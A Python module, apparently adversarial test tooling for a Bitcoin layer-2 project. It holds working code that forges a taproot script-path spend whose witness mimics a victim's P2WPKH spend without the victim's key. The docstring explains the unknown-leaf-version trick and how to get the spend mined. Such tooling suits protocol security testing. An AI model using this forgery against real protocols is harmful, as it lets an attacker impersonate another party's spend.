"""Attack tooling: a first input that LOOKS like the poster's P2WPKH spend, made without the poster's key.

The witness [item starting 0x30, poster key] is also a taproot script-path spend: the 33-byte key is read
as the control block (leaf version key[0] & 0xfe = 0x02, unknown to consensus, so the spend succeeds
without running the script; output key parity key[0] & 1; internal key key[1:33], the poster's x-only
key) and the first item as the tapscript. Anyone can make the P2TR output it spends: its output key is
the poster's key tweaked by that one leaf. The spend is consensus-valid (non-standard only by policy), so a
miner, or `generateblock` with the raw transaction, puts it in a block.
"""

from dataclasses import dataclass

from btcl2.bitcoin.keys import taproot_output_key
from btcl2.bitcoin.script import p2tr
from btcl2.bitcoin.sighash import tapleaf_hash


@dataclass(frozen=True, slots=True)
class ForgedSpend:
    """A P2TR output whose script-path spend has the witness shape of a P2WPKH spend of `pubkey`."""

    script_pubkey: bytes
    """The P2TR output to fund."""
    witness: tuple[bytes, bytes]
    """[tapscript shaped like a DER signature with SIGHASH_ALL, the victim's 33-byte key]."""


def forge_p2wpkh_lookalike(pubkey: bytes) -> ForgedSpend:
    """Grind the tapscript (about two tries) until the output key's parity is the control byte's low bit."""
    parity, leaf_version, internal = pubkey[0] & 1, pubkey[0] & 0xFE, pubkey[1:]
    for n in range(1 << 16):
        # 71 bytes, like a low-R DER signature and its sighash byte: 0x30 0x44 ... 0x01.
        tapscript = b"\x30\x44" + n.to_bytes(2, "big") + bytes(66) + b"\x01"
        output_key, output_parity = taproot_output_key(internal, tapleaf_hash(tapscript, leaf_version))
        if output_parity == parity:
            return ForgedSpend(p2tr(output_key), (tapscript, pubkey))
    raise AssertionError("no tapscript found with the needed output key parity")
